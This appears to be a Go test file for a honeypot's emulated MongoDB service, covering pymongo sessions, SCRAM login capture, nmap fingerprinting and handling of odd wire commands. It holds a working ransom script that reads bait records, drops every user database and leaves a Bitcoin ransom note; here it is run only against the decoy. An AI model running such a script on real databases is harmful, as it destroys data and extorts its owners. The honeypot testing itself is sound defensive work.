package mongodb

import (
	"bytes"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/service/servicetest"
	"github.com/decnet/decnet/internal/testenv"
)

// pymongo runs a Python script with the system python3 and pymongo (the
// Debian python3-pymongo package); host and port are argv[1] and argv[2].
func pymongo(t *testing.T, script, host, port string) string {
	t.Helper()
	testenv.RequireTool(t, "python3")
	py := "/usr/bin/python3"
	if err := exec.Command(py, "-c", "import pymongo").Run(); err != nil {
		if os.Getenv("DECNET_REQUIRE_TOOLS") == "1" {
			t.Fatalf("pymongo is not importable by %s (python3-pymongo): %v", py, err)
		}
		t.Skipf("pymongo is not importable by %s: %v", py, err)
	}
	out, err := exec.Command(py, "-c", script, host, port).CombinedOutput()
	if err != nil {
		t.Fatalf("python: %v\n%s", err, out)
	}
	return string(out)
}

const ransomScript = `
import sys, pymongo
c = pymongo.MongoClient(sys.argv[1], int(sys.argv[2]), serverSelectionTimeoutMS=5000, directConnection=True)
info = c.server_info()
print("VERSION", info["version"], info["maxBsonObjectSize"])
names = c.list_database_names()
print("DBS", ",".join(names))
bait = [n for n in names if n not in ("admin", "config", "local")][0]
docs = list(c[bait]["users"].find().limit(5))
print("FOUND", len(docs), docs[0]["email"])
for n in names:
    if n not in ("admin", "config", "local"):
        c.drop_database(n)
c["READ__ME_TO_RECOVER_YOUR_DATA"]["README"].insert_one({"content": "All your data is backed up. You must pay 0.05 BTC to bc1qransomnote to recover it."})
print("AFTER", ",".join(c.list_database_names()))
`

// TestPymongoRansom runs the exposed-database attack: list, read bait,
// drop everything, leave a note; the note is quarantined.
func TestPymongoRansom(t *testing.T) {
	r := servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian", Config: map[string]any{"databases": []any{"shop", "crm"}}})
	out := pymongo(t, ransomScript, r.Addr.String(), r.Port(Port))
	t.Logf("pymongo:\n%s", out)
	for _, want := range []string{"VERSION 7.0.14 16777216", "DBS admin,config,crm,local,shop", "FOUND 5 ", "AFTER READ__ME_TO_RECOVER_YOUR_DATA,admin,config,local"} {
		if !strings.Contains(out, want) {
			t.Errorf("pymongo output lacks %q", want)
		}
	}
	h, ok := r.Events.Wait(5*time.Second, event.OfType("mongodb.client.hello"))
	if !ok || !strings.HasPrefix(h.Fields["driver"].(string), "PyMongo ") {
		t.Errorf("hello event = %+v", h.Fields)
	}
	d, ok := r.Events.Wait(5*time.Second, func(e event.Event) bool {
		return e.Type == "mongodb.data.drop" && e.Fields["db"] == "shop"
	})
	if !ok || d.Fields["command"] != "dropDatabase" || d.Fields["existed"] != true {
		t.Errorf("drop event = %+v", d.Fields)
	}
	w, ok := r.Events.Wait(5*time.Second, event.OfType("mongodb.data.write"))
	if !ok {
		t.Fatal("no data.write event")
	}
	if w.Fields["db"] != "READ__ME_TO_RECOVER_YOUR_DATA" || w.Fields["collection"] != "README" || w.Fields["n"] != 1 {
		t.Errorf("write event = %+v", w.Fields)
	}
	sha, _ := w.Fields["sha256"].(string)
	b, err := os.ReadFile(filepath.Join(r.QuarDir, sha))
	if err != nil || !strings.Contains(string(b), "pay 0.05 BTC") {
		t.Errorf("quarantined note %s: %q %v", sha, b, err)
	}
	f, ok := r.Events.Wait(5*time.Second, func(e event.Event) bool {
		return e.Type == "mongodb.command.input" && e.Fields["command"] == "find"
	})
	if !ok || f.Fields["collection"] != "users" || f.Fields["result"] != "ok" {
		t.Errorf("find event = %+v", f.Fields)
	}
}

const authScript = `
import sys, pymongo
from pymongo.errors import OperationFailure
for mech in ("SCRAM-SHA-256", "SCRAM-SHA-1"):
    c = pymongo.MongoClient(sys.argv[1], int(sys.argv[2]), username="admin", password="Sup3rSecret!", authSource="admin",
                            authMechanism=mech, serverSelectionTimeoutMS=5000, directConnection=True)
    try:
        c.admin.command("listDatabases")
        print(mech, "OK")
    except OperationFailure as e:
        print(mech, "FAIL", e.code, str(e))
c = pymongo.MongoClient(sys.argv[1], int(sys.argv[2]), username="app", password="right", authSource="admin",
                        authMechanism="SCRAM-SHA-256", serverSelectionTimeoutMS=5000, directConnection=True)
print("GOOD", ",".join(c.list_database_names()))
c = pymongo.MongoClient(sys.argv[1], int(sys.argv[2]), serverSelectionTimeoutMS=5000, directConnection=True)
try:
    c.list_database_names()
except OperationFailure as e:
    print("ANON", e.code, str(e))
`

// TestPymongoSCRAM: with auth on, both SCRAM mechanisms run to the proof,
// pymongo gets mongod's "Authentication failed.", and the captured
// exchange verifies against the password typed.
func TestPymongoSCRAM(t *testing.T) {
	r := servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian", Config: map[string]any{"auth": true, "users": []any{"app:right"}}})
	out := pymongo(t, authScript, r.Addr.String(), r.Port(Port))
	t.Logf("pymongo:\n%s", out)
	for _, want := range []string{"SCRAM-SHA-256 FAIL 18 Authentication failed.", "SCRAM-SHA-1 FAIL 18 Authentication failed.",
		"GOOD admin,", "ANON 13 Command listDatabases requires authentication"} {
		if !strings.Contains(out, want) {
			t.Errorf("pymongo output lacks %q", want)
		}
	}
	for _, m := range []mech{scramSHA256, scramSHA1} {
		e, ok := r.Events.Wait(5*time.Second, func(e event.Event) bool {
			return e.Type == "mongodb.login.failed" && e.Credential != nil && e.Credential.Method == m.name
		})
		if !ok {
			t.Fatalf("no login.failed for %s", m.name)
		}
		mat := e.Credential.Material
		if e.Credential.Principal != "admin" || mat["iterations"] != m.iterations || e.Fields["error_code"] != 18 {
			t.Errorf("%s credential = %+v fields %+v", m.name, e.Credential, e.Fields)
		}
		salt, _ := base64.StdEncoding.DecodeString(mat["salt_b64"].(string))
		proof, _ := base64.StdEncoding.DecodeString(mat["client_proof"].(string))
		am := mat["auth_message"].(string)
		if len(salt) != m.saltLen {
			t.Errorf("%s salt is %d bytes", m.name, len(salt))
		}
		if !bytes.Equal(m.proof(m.password("admin", "Sup3rSecret!"), salt, am), proof) {
			t.Errorf("%s: captured proof does not verify for the password typed", m.name)
		}
		if bytes.Equal(m.proof(m.password("admin", "Sup3rSecret"), salt, am), proof) {
			t.Errorf("%s: a wrong password verifies", m.name)
		}
	}
	if e, ok := r.Events.Wait(5*time.Second, event.OfType("mongodb.login.success")); !ok || e.Fields["user"] != "app" {
		t.Errorf("login.success = %+v", e.Fields)
	}
}

// TestSaltStable: the salt a user gets is the same on every attempt (a
// real user's stored salt), the nonce fresh.
func TestSaltStable(t *testing.T) {
	r := servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian", Config: map[string]any{"auth": true}})
	a := servicetest.Exchange(t, r.HostPort(Port), string(saslStartMsg("n,,n=root,r=abcdefghijklmnop")), time.Second)
	b := servicetest.Exchange(t, r.HostPort(Port), string(saslStartMsg("n,,n=root,r=abcdefghijklmnop")), time.Second)
	re := regexp.MustCompile(`r=([^,]+),s=([^,]+),i=15000`)
	ma, mb := re.FindStringSubmatch(a), re.FindStringSubmatch(b)
	if ma == nil || mb == nil {
		t.Fatalf("no server-first: %q %q", a, b)
	}
	if ma[2] != mb[2] || ma[1] == mb[1] {
		t.Errorf("salt %s/%s nonce %s/%s", ma[2], mb[2], ma[1], mb[1])
	}
}

func saslStartMsg(payload string) []byte {
	body := D{{"saslStart", int32(1)}, {"mechanism", "SCRAM-SHA-256"}, {"payload", Binary{Data: []byte(payload)}}, {"$db", "admin"}}
	b := appendHeader(nil, 7, 0, opMsg)
	b = append(b, 0, 0, 0, 0, 0)
	return finish(body.encode(b))
}

// TestNmap: nmap's mongodb probe is an OP_QUERY serverStatus. A 5.0
// (CentOS 7's package) answers it and nmap names the version; 7.0 refuses
// legacy OP_QUERY commands (352) exactly as a real 7.0 does.
func TestNmap(t *testing.T) {
	bin := testenv.RequireTool(t, "nmap")
	run := func(r *servicetest.Running) string {
		out, err := exec.Command(bin, "-sV", "-Pn", "-n", "--version-intensity", "7", "-p", r.Port(Port), r.Addr.String()).CombinedOutput()
		if err != nil {
			t.Fatalf("nmap: %v\n%s", err, out)
		}
		return string(out)
	}
	r := servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "centos7"})
	out := run(r)
	t.Logf("nmap (centos7):\n%s", out)
	if !regexp.MustCompile(`open\s+mongodb\s+MongoDB 5\.0\.29`).MatchString(out) {
		t.Errorf("nmap did not name MongoDB 5.0.29")
	}
	r = servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian", Config: map[string]any{"version": "4.4.29"}})
	out = run(r)
	t.Logf("nmap (4.4.29):\n%s", out)
	if !regexp.MustCompile(`open\s+mongodb\s+MongoDB 4\.4\.29`).MatchString(out) {
		t.Errorf("nmap did not name MongoDB 4.4.29")
	}
	if strings.Contains(strings.ToLower(out), "honeypot") {
		t.Errorf("nmap says honeypot")
	}
	// 7.0 refuses nmap's OP_QUERY serverStatus probe as a real 7.0 does;
	// nmap names it by the page mongod sends a browser on the driver port.
	r = servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian"})
	out = run(r)
	t.Logf("nmap (debian, 7.0.14):\n%s", out)
	if !regexp.MustCompile(`open\s+mongodb\s+MongoDB 2\.5\.1 or later`).MatchString(out) {
		t.Errorf("nmap did not name MongoDB on the 7.0 persona")
	}
}

// TestOpQuery: legacy isMaster over OP_QUERY is answered with OP_REPLY on
// every version; other commands only before 5.1.
func TestOpQuery(t *testing.T) {
	r := servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian"})
	q := func(cmd D) []byte {
		b := appendHeader(nil, 9, 0, opQuery)
		b = append(b, 0, 0, 0, 0)
		b = append(b, "admin.$cmd\x00"...)
		b = append(b, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff)
		return finish(cmd.encode(b))
	}
	out := servicetest.Exchange(t, r.HostPort(Port), string(q(D{{"isMaster", int32(1)}}))+string(q(D{{"buildinfo", int32(1)}})), 2*time.Second)
	if !strings.Contains(out, "maxWireVersion\x00\x15\x00\x00\x00") || !strings.Contains(out, "ismaster\x00\x01") {
		t.Errorf("isMaster reply: %q", out)
	}
	if !strings.Contains(out, "Unsupported OP_QUERY command: buildinfo") {
		t.Errorf("buildinfo over OP_QUERY on 7.0: %q", out)
	}
}

func msgFor(body D) []byte {
	b := appendHeader(nil, 11, 0, opMsg)
	b = append(b, 0, 0, 0, 0, 0)
	return finish(body.encode(b))
}

// TestOddCommands: commands with the wrong types get answers, not a
// dropped connection, and the connection still serves a ping after.
func TestOddCommands(t *testing.T) {
	r := servicetest.Start(t, "mongodb", Port, servicetest.Options{Distro: "debian"})
	var script []byte
	for _, d := range []D{
		{{"find", int32(5)}, {"$db", "x"}},
		{{"insert", "c"}, {"documents", int32(3)}, {"$db", "x"}},
		{{"getMore", "x"}, {"$db", "x"}},
		{{"aggregate", "c"}, {"pipeline", A{int32(1), D{}}}, {"$db", "x"}},
		{{"delete", "c"}, {"deletes", A{D{{"limit", "x"}}}}, {"$db", "x"}},
		{{"saslContinue", int32(1)}, {"$db", "admin"}},
		{{"hello", int32(1)}, {"speculativeAuthenticate", D{{"mechanism", "SCRAM-SHA-256"}, {"payload", int32(5)}}}, {"$db", "admin"}},
		{{"nosuch", int32(1)}, {"$db", "admin"}},
		{{"ping", int32(1)}},
		{{"ping", int32(1)}, {"$db", "admin"}},
	} {
		script = append(script, msgFor(d)...)
	}
	out := servicetest.Exchange(t, r.HostPort(Port), string(script), time.Second)
	for _, want := range []string{"cursor id 0 not found", "No SASL session state found", "no such command: 'nosuch'", "OP_MSG requests require a $db argument"} {
		if !strings.Contains(out, want) {
			t.Errorf("replies lack %q", want)
		}
	}
	if n := strings.Count(out, "\xdd\x07\x00\x00"); n != 10 {
		t.Errorf("%d OP_MSG replies, want 10", n)
	}
}
